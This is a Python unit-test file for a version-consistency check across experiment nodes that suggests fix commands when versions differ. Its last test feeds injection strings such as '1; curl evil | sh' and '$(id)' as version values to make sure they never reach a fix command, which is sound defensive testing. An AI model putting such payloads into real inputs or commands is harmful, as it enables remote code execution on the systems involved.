"""Who runs what."""

from __future__ import annotations

from importlib.metadata import version
from pathlib import Path

import msgspec
import pytest

from swarm.views.doctor import nodes
from swarm.wire import keys
from tests.layout import Layout
from tests.unit.views.doctor.patients import FAILURE, OK, WARNING, look, make_patient
from tests.unit.views.factories import append, make_experiment, make_start

GYM = "reasoning-gym"


def start(layout: Layout, node: str, **said: str) -> None:
    versions = {name.replace("_", "-"): value for name, value in said.items()}
    append(layout.root / keys.starts(node), msgspec.json.encode(make_start(layout, node, versions=versions)))


def test_equal_versions_are_well_and_the_last_start_of_a_node_counts(tmp_path: Path) -> None:
    layout = make_experiment(tmp_path / "shared")
    start(layout, "alice", swarm="0.0.9", reasoning_gym="0.1.9")
    for node in ("alice", "bob"):
        start(layout, node, swarm="0.1.0", reasoning_gym=version("reasoning-gym"))
    found = look(nodes.check_versions, make_patient(layout.path))
    assert found["reasoning-gym"].measured == f"{version('reasoning-gym')} on 2 nodes"
    assert (found["reasoning-gym"].verdict, found["swarm"].verdict) == (OK, OK)


def test_other_versions_of_reasoning_gym_are_a_failure_and_of_swarm_a_warning(tmp_path: Path) -> None:
    layout = make_experiment(tmp_path / "shared")
    start(layout, "alice", swarm="0.1.0", reasoning_gym="0.1.9")
    start(layout, "bob", swarm="0.2.0", reasoning_gym="0.1.25")
    found = look(nodes.check_versions, make_patient(layout.path))
    assert found["reasoning-gym"].verdict is FAILURE
    assert found["reasoning-gym"].measured == "0.1.9 on alice; 0.1.25 on bob"
    assert "reasoning-gym==0.1.25" in found["reasoning-gym"].fix
    assert found["swarm"].verdict is WARNING


def test_a_host_whose_version_is_not_that_of_the_nodes_is_warned() -> None:
    said_by = {"alice": {GYM: "0.1.25"}}
    assert nodes.judge_package(GYM, said_by, "0.1.25").verdict is OK
    assert nodes.judge_package(GYM, said_by, "").verdict is OK  # a host that only looks
    found = nodes.judge_package(GYM, said_by, "0.1.30")
    assert (found.verdict, "reasoning-gym==0.1.25" in found.fix) == (WARNING, True)


@pytest.mark.parametrize("said", ["1; curl evil | sh", "1.\u00b2", "9" * 5000, "$(id)"])
def test_what_no_version_can_be_comes_into_no_command(said: str) -> None:
    said_by = {"alice": {GYM: "0.1.25"}, "mallory": {GYM: said, "swarm": said}}
    for finding in (nodes.judge_package(GYM, said_by, "0.1.30"), nodes.judge_package("swarm", said_by, "")):
        assert said not in finding.fix
